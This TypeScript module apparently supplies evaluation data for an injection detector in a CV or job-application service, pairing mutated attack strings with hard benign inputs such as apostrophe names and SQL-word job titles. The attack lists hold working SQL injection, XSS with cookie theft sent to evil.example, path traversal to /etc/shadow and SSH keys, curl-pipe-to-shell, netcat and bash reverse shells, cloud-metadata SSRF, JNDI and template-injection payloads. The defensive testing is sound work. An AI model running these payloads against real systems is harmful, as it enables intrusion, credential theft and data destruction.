/**
 * A set that was written after the detector, by another hand, and measured once before anything was changed for it: what
 * `first` in fresh-first.json says. Nothing is filtered: every attack counts, whether or not a parser agrees.
 */
export interface FreshSet {
  what: string;
  isAttack: boolean;
  values: string[];
}

const BLANK = / /g;

function flipCase(text: string): string {
  return [...text].map((c, i) => (i % 2 === 0 ? c.toUpperCase() : c.toLowerCase())).join('');
}

function everyOther(text: string): string {
  return [...text].map((c, i) => (i % 3 === 0 ? `%${c.charCodeAt(0).toString(16).padStart(2, '0')}` : c)).join('');
}

const SQL = [
  "admin'--",
  "admin' #",
  "' or 'one'='one",
  "x' or 3=3 limit 1 offset 1-- -",
  "') or ('q'='q",
  "')) or (('z'))=(('z",
  '5 or 7=7',
  '-1 or 0x50=0x50',
  '12) or (4=4',
  '3 and (select 9 from pg_class limit 1)=9',
  "' union select null,null,current_database()--",
  '-7 union all select 1,table_name,3 from information_schema.tables',
  "0 union select array_to_string(array(select email from users),',')",
  "nurse' union (select password_hash from users)--",
  '1; drop table cvs;--',
  "x'; update users set role='admin' where email='a@b.example'--",
  '7;select pg_sleep(8)--',
  "'||(select pg_sleep(6))||'",
  "' and 1=(select count(*) from pg_stat_activity) and 'k'='k",
  "' and (select substring(password_hash,1,1) from users limit 1)='$",
  '(select case when (1=1) then pg_sleep(4) else pg_sleep(0) end)',
  'name desc, (select 1 from pg_sleep(3))',
  'created_at; select version()',
  '1 and cast((select version()) as int)=1',
  "' and extractvalue(1,concat(0x7e,version()))--",
  "'; copy (select '') to program 'id'--",
  '1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)',
  "' having 1=1--",
  "1' order by 40--",
  "' or username like '%adm%",
  "x' and email is not null--",
  "'; exec xp_cmdshell('whoami')--",
  "1 waitfor delay '0:0:5'",
  "' or sleep(5)='",
  '1 or benchmark(9000000,md5(1))',
];
const SCRIPT = [
  '<script>fetch("//evil.example/?"+document.cookie)</script>',
  '"><script>alert(document.domain)</script>',
  "'><img src=q onerror=alert(7)>",
  '<svg/onload=confirm(2)>',
  '<body onpageshow=alert(3)>',
  '<details open ontoggle=prompt(4)>x</details>',
  '<video><source onerror="alert(5)"></video>',
  '<iframe src="javascript:alert(6)"></iframe>',
  '<a href="javascript:alert(document.cookie)">CV</a>',
  '<math><a xlink:href="javascript:alert(8)">x</a></math>',
  '<form action="javascript:alert(9)"><button>Apply</button></form>',
  '<input autofocus onfocus=alert(10)>',
  '<marquee onstart=alert(11)>Hire me</marquee>',
  "';alert(12);//",
  '"-alert(13)-"',
  '${alert(14)}',
  '</title><script>alert(15)</script>',
  '</textarea><svg onload=alert(16)>',
  '<object data="javascript:alert(17)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="x" onload="eval(atob(\'YWxlcnQoMTgp\'))" onerror="eval(name)">',
  '<style onload=alert(19)></style>',
  '" onmouseover="alert(20)',
  "' autofocus onfocus='alert(21)",
  '<audio src onerror=alert(22)>',
  '<template><script>alert(23)</script></template><script>alert(24)</script>',
];
const TRAVERSAL = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/shadow',
  '....//....//....//etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..%252f..%252fetc%252fpasswd',
  '/proc/self/environ',
  'file:///etc/passwd',
  '../../../../var/log/auth.log',
  '..;/..;/WEB-INF/web.xml',
  '/var/www/../../etc/hosts',
  '../.env',
  '../../.ssh/id_rsa',
  'C:\\Windows\\System32\\drivers\\etc\\hosts',
  '../../../../../root/.bash_history',
  '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
  '/./././././etc/./passwd',
  'php://filter/convert.base64-encode/resource=index.php',
];
const COMMAND = [
  '; cat /etc/passwd',
  '| id',
  '`whoami`',
  '$(curl http://evil.example/x.sh | sh)',
  '&& wget http://evil.example/m -O /tmp/m',
  '|| ping -c 10 127.0.0.1',
  "'; nc -e /bin/sh 203.0.113.9 4444 #",
  '; bash -i >& /dev/tcp/203.0.113.9/4242 0>&1',
  'cv.pdf; rm -rf /',
  '$(sleep 9)',
  '| powershell -enc SQBFAFgA',
  '& type C:\\boot.ini',
  '; python3 -c "import os;os.system(\'id\')"',
  '`/usr/bin/env`',
  '\nls -la /',
  '; uname -a; id',
  '$IFS;cat$IFS/etc/passwd',
  ';/bin/c?t /etc/p?sswd',
];
const SSRF = [
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://127.0.0.1:6379/',
  'http://[::1]:22/',
  'http://metadata.google.internal/computeMetadata/v1/',
  'gopher://127.0.0.1:6379/_FLUSHALL',
  'dict://127.0.0.1:11211/stats',
  'http://0177.0.0.1/',
  'http://2130706433/',
  'http://localhost:8000/api/admin/users',
  'file:///proc/self/cmdline',
  'http://100.100.100.200/latest/meta-data/',
  'ldap://127.0.0.1:389/x',
  'http://127.0.0.1.nip.io/',
  'http://burpcollaborator.net/x',
];
const NOSQL = [
  '{"$gt":""}',
  '{"$ne":null}',
  '[$ne]=1',
  "' || 'a'=='a",
  "'; return true; var x='",
  '{"$where":"sleep(5000)"}',
  '{"$regex":".*"}',
  "true, $where: '1 == 1'",
  '{"username":{"$in":["admin"]}}',
  "a'; while(1){}; '",
  '$where',
  "';sleep(5000);'",
];
const TEMPLATE = [
  '{{7*7}}',
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
  "{{''.__class__.__mro__[1].__subclasses__()}}",
  '${T(java.lang.Runtime).getRuntime().exec("id")}',
  '{{constructor.constructor("return process")().exit()}}',
  '{%import os%}{{os.system("id")}}',
  '${jndi:ldap://evil.example/a}',
  '${${lower:j}ndi:rmi://evil.example/a}',
  '*{T(java.lang.System).getenv()}',
  '{{request.application.__globals__}}',
  '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
  '@(1+2)',
];

function mutated(seeds: readonly string[], mutations: readonly ((text: string) => string)[]): string[] {
  return [...new Set(seeds.flatMap((seed) => [seed, ...mutations.map((mutate) => mutate(seed))]))];
}

export function freshAttacks(): FreshSet[] {
  const attack = (what: string, values: string[]): FreshSet => ({ what, isAttack: true, values });
  return [
    attack(
      'SQL',
      mutated(SQL, [flipCase, (text) => text.replace(BLANK, '/**/'), (text) => text.replace(BLANK, '\t'), everyOther]),
    ),
    attack(
      'script',
      mutated(SCRIPT, [(text) => text.replace(/<\/?\w+/g, flipCase), (text) => `Ada ${text}`, everyOther]),
    ),
    attack('paths', mutated(TRAVERSAL, [(text) => `cv/${text}`, everyOther])),
    attack('commands', mutated(COMMAND, [(text) => `cv.pdf${text}`, everyOther])),
    attack('inside addresses', mutated(SSRF, [(text) => text.replace(/^\w+/, flipCase), everyOther])),
    attack('NoSQL', mutated(NOSQL, [(text) => `admin${text}`])),
    attack('templates', mutated(TEMPLATE, [(text) => `Dear ${text}`, everyOther])),
  ];
}

const lines = (text: string) =>
  text
    .split('\n')
    .map((line) => line.trim())
    .filter(Boolean);
const words = (text: string) =>
  text
    .split(/\s*\|\s*|\n/)
    .map((word) => word.trim())
    .filter(Boolean);

const GIVEN =
  words(`Aoife | Björn | Chloé | Đặng | Eşref | Fríða | Gülşen | Håkon | Íñigo | Jörg-Uwe | Khaled | Lwazi | Mbali | Nuša | Oðinn
  | Përparim | Q'orianka | Ruairí | Štěpánka | Ta'Quan | Uğur | Väinö | Wójciech | Xóchitl | Yūki | Željko | 美咲 | 준호 | Анастасия | עומר | ياسمين | प्रिया | ณัฐ`);
const FAMILY =
  words(`O'Sullivan | d'Alembert | L'Hôpital | ter Braak | van 't Hoff | de la Cruz-O'Neill | Mac an tSaoir | M'Bappé | N'Guessan | 't Lam
  | Ó Súilleabháin | Þórarinsdóttir | Çelik | Nowak-Jeż | Kırımlı | Ben-David | al-Ḥasan | Nguyễn Thị | St. Clair | Delete | Update | Insert | Having | And | Or | Not | In
  | Ali & Sons | Order | Group | Values | Exec | Sleep | Image`);
const COMPANIES =
  words(`Barnes & Noble | Dunkin' | Macy's | Land O'Lakes | Smith & Wesson; Partners | Johnson + Johnson | Bang & Olufsen A/S | F.C. Barcelona (Museu) | 3M | 20/20 Vision Ltd
  | "Le Monde" SA | Crate & Barrel | Victoria's Secret | Wal*Mart | Pret A Manger (Europe) | Moët & Chandon – LVMH | Select Staffing | Union Bank | Drop Box Movers | Table & Chair Co.
  | <Code/> Academy | {Cognizant} | [a]head | C3.ai | monday.com | Booking.com B.V. | O2 | A--Z Cleaning | Hewlett-Packard | Rolls-Royce plc | Domino's | Kellogg's | Lay's | Wendy's
  | 株式会社リクルート | ООО "Ромашка" | شركة النور | Αθηνά Α.Ε. | Škoda Auto a.s. | İş Bankası | Nestlé S.A. | Ørsted | where.is ltd | All or Nothing GmbH | Either/Or Books | Not Just Shops | Rock and Roll Inc.
  | P&O | Q&A Ltd. | B&Q | JPMorgan Chase & Co. | Deloitte & Touche | Saks Fifth Ave. | Trader Joe's | Arby's | Denny's; Region West | #Hashtag Media | $hop | 100% Bio | ~tilde | "Quoted" | It's; That's`);
const TITLES =
  words(`C++/C# Developer | F# Engineer | SQL DBA (PostgreSQL, Oracle) | Sr. DBA – drop-in cover | Script Supervisor | Select Committee Clerk | Union Rep & Steward | Head of IT/OT | CEO & co-founder
  | Front-end (<canvas>, WebGL) | Java EE / Spring | Node.js + React | Engineer II; on-call | Nurse (ICU) - nights | Chef de partie | Maître d'hôtel | Geschäftsführer*in | Ingénieur·e logiciel | Ассистент (HR) | システムエンジニア
  | Kubernetes & CI/CD | UX/UI | Pen-tester: XSS, SQLi | SOC analyst, L1/L2 | R&D | 1st line support | Data Engineer [ETL] | Content creator @ agency | Order picker | Table games dealer | Image editor | Alert officer | Object designer | Update manager
  | Group lead | Insert molding operator | Case manager | Root cause analyst | Admin or PA | Teacher and/or tutor | Not employed | True crime writer | Sleep technologist | Waiter / waitress | Exec. assistant | Join-stock clerk | Values officer | PHP (Laravel) | ASP.NET | .NET/C#`);
const ADDRESSES = lines(`
  12 O'Connell St., Flat 3/A, Dublin 1
  Straße des 17. Juni 135, D-10623 Berlin
  c/o Müller & Söhne, Hauptstr. 5-7
  24 rue de l'Église, 75015 Paris
  1600 Pennsylvania Ave NW, Washington, DC 20500
  Apt #4B (rear), 77 King's Road, London SW3
  P.O. Box 1234; Suite 5
  Calle d'Aragó, 255 1º 2ª, 08007 Barcelona
  Via dell'Indipendenza, 8/2 – 40121 Bologna
  〒150-0002 東京都渋谷区渋谷2-21-1
  서울특별시 강남구 테헤란로 152
  ул. Тверская, д. 7, кв. 12
  Αθηνάς 12, Αθήνα 105 51
  شارع الملك فهد 12، الرياض
  "The Old Mill", Mill Lane, Nr. Bath
  Unit 3 (Block B) & 4, Dock Rd.
  Kloosterstraat 22 bus 1, 2000 Antwerpen
  's-Hertogenbosch, Markt 1
  Hof ter Delle 5 = corner house
  Km 12.5 carretera Masaya, de la rotonda 2c. al sur
  Level 10/1 O'Connell House
  Plot 5 or 6, Sector 18, Noida
  #12-34 Orchard Rd, Singapore 238801
  Rua de São Bento, 45 - 3.º Esq.
  Select House, Union St. 1
  Table Mountain Rd & Drop Zone 3
  Piaţa Unirii nr. 1, bl. B2, sc. 1, ap. 9
  Kungsgatan 1A, 2 tr
  P° de la Castellana, 33 (esc. dcha.)
  Ny Østergade 7, 4. t.v.`);
const SEARCHES = lines(`
  nurse AND (icu OR "emergency room")
  "project manager" NOT construction
  java -javascript
  c++ or rust
  (react OR vue) AND typescript
  site:linkedin.com/in "data engineer" Berlin
  title:(CTO OR "head of engineering")
  skills:"sql server" AND ssis
  5+ years python
  salary > 50k
  salary >= 60000 and <= 80000
  experience between 5 and 10 years
  .net OR asp.net
  "o'reilly" author
  select * from
  how to select distinct users in sql
  drop table vs truncate table
  union vs union all
  left join where null
  insert into postgres on conflict
  order by 1 desc meaning
  sql injection prevention
  xss cheat sheet
  what is <script> tag
  innerHTML vs textContent
  onclick vs addEventListener
  javascript: void(0)
  alert('hello') not working
  console.log is not a function
  git rm -rf cached
  chmod 777 why bad
  rm -rf node_modules
  cat /etc/passwd explained
  ls -la | grep cv
  bash if [ -f file ]
  curl -X POST json
  wget recursive download
  kubectl get pods -A
  docker run --rm -it
  {{ jinja }} template
  vue {{ mustache }} syntax
  \${var} in bash
  #{interpolation} ruby
  <%= erb %>
  regex ^[a-z]+$
  sed 's/a/b/g'
  awk '{print $1}'
  a && b || c
  if (a == b) { }
  x => x + 1
  List<String> vs ArrayList<>
  std::vector<int>
  Option<T> rust
  #include <stdio.h>
  i++ vs ++i
  1=1 where clause trick explained
  and/or
  either/or test
  is it true or false
  not null constraint
  max(salary) group by dept
  count(*) vs count(1)
  2 > 1
  <3 design
  :-) friendly
  50% remote
  "C# developer" -senior; Hamburg
  R&D manager (m/w/d)
  Koch/Köchin
  ingénieur d'affaires
  commis d'hôtel
  infermiere/a turno notte
  engenheiro & gestor
  看護師 夜勤
  разработчик "1С" OR sap
  مهندس برمجيات
  jobs@example.org
  +49 30 1234567
  (030) 123-456
  #hiring
  @company
  who's hiring?
  what's a CV?
  don't drop the table
  table tennis coach; union member
  union select committee minutes
  executive sleep coach
  update your cv or delete it
  grant writer
  create table plan restaurant
  alter ego
  truncate text css
  declare income
  cast & crew
  convert pdf to docx
  load-balancing
  having fun at work
  case when
  like-minded
  in-house
  exists?`);
const URLS = lines(`
  https://example.org/cv.pdf?download=1&lang=en
  https://www.linkedin.com/in/ada-lovelace-1815/
  https://github.com/ada/notes/blob/main/README.md#usage
  https://example.org/search?q=a+or+b&sort=-date
  https://jobs.example.org/apply?id=123&ref=mail%20campaign
  https://example.org/a%20b/c%27s.html
  http://example.org:8080/path;jsessionid=1A2B
  https://example.org/?redirect=https%3A%2F%2Fexample.org%2Fhome
  https://docs.google.com/document/d/1aB-cD_eF/edit?usp=sharing
  mailto:ada@example.org?subject=Hello%2C%20Ada
  tel:+44-20-7946-0000
  www.example.org
  example.org/~ada/
  https://xn--mnchen-3ya.example/
  https://münchen.example/straße
  https://example.org/wiki/C%2B%2B
  https://example.org/wiki/SQL_injection
  https://example.org/posts/why-select-star-is-bad
  https://example.org/docs/../index.html
  https://stackoverflow.com/questions/11227809/why-is-processing
  https://example.org/?utm_source=news&utm_medium=e-mail&utm_campaign=q1'25
  ftp://files.example.org/pub/
  https://behance.net/gallery/1/Rock-%27n%27-Roll
  https://example.org/#/route?x=1
  https://maps.example.org/@52.5,13.4,15z
  https://example.org/a,b;c=d/e
  https://t.me/ada
  https://example.org/?filter[skills]=sql
  https://example.org/(brackets)
  https://example.org/?q=%22senior%20engineer%22`);
const FORM = lines(`
  A* pupil
  2:1 (Hons)
  1,5 - 2,0
  < 1 year
  > 10 years
  5 - 7 years
  C1/C2
  N/A
  -
  --
  n.a.; see CV
  = none
  @ home
  Mon-Fri, 9-5
  24/7
  50% / 100%
  €60k-70k
  £45,000 p.a. + bonus
  $100/h
  ¥8,000,000
  he/him
  she/they
  Mr & Mrs
  Dr. med. (univ.)
  B.Sc. (Hons.), M.Sc.
  "Cum laude"
  Summa cum laude – 1.0
  O-level & A-level
  Führerschein B/BE
  Permis B & C
  visa: yes/no
  yes or no
  true
  false
  null
  undefined
  NaN
  None
  0
  -1
  1e6
  007
  v2.0.1-beta
  #1
  50+
  *
  ?
  ...
  ;-)
  <none>
  <your name here>
  [redacted]
  {placeholder}
  (optional)
  Tom's "best" CV
  CV (final) (2).pdf
  cv_final_FINAL-2.docx
  résumé – März '26.pdf
  2026-01-31T10:00:00Z
  31.01.2026
  01/31/2026
  Q1'26
  since '09
  '98-'02
  10:30
  UTC+02:00
  ISO 9001:2015
  DIN EN 1090-2
  §34a GewO
  K&R
  MS Office (Word; Excel)
  SAP R/3, S/4HANA
  AutoCAD 2D/3D
  C, C++, C#
  HTML5 & CSS3
  SQL; PL/SQL; T-SQL
  Python >= 3.8
  A/B-testing
  TCP/IP, UDP
  OS/2
  Linux (Debian & RHEL)
  I'm available from 1/9
  it's negotiable
  don't call before 5
  père au foyer, d'où la pause
  l'an dernier
  dell'arte
  rock'n'roll
  y'all
  o'clock
  ma'am`);

export function freshBenign(): FreshSet[] {
  const names = GIVEN.flatMap((given, i) =>
    [0, 1, 2, 3, 4, 5, 6, 7].map((n) => `${given} ${FAMILY[(i * 5 + n) % FAMILY.length]}`),
  );
  const benign = (what: string, values: string[]): FreshSet => ({ what, isAttack: false, values });
  return [
    benign('names', names),
    benign('companies', COMPANIES),
    benign('titles', TITLES),
    benign('addresses', ADDRESSES),
    benign('searches', SEARCHES),
    benign('URLs', URLS),
    benign('form fields', FORM),
  ];
}
